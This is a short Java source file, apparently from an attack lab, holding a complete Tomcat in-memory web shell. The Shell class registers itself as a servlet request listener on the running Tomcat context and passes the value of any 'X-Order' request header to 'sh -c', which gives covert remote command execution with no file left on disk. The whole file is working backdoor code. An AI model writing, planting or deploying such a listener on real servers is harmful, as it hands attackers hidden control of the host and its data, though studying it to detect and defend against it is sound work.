import javax.servlet.ServletRequestEvent;
import javax.servlet.ServletRequestListener;
import javax.servlet.http.HttpServletRequest;
import whorl.lab.attack.TomcatContext;

/** Registers itself as a listener. */
public class Shell implements ServletRequestListener {
  public Shell() throws Exception {
    TomcatContext.current().addApplicationEventListener(this);
  }

  @Override
  public void requestInitialized(ServletRequestEvent event) {
    String order = ((HttpServletRequest) event.getServletRequest()).getHeader("X-Order");
    try {
      if (order != null) {
        System.out.println(run(order));
      }
    } catch (java.io.IOException e) {
      e.printStackTrace();
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
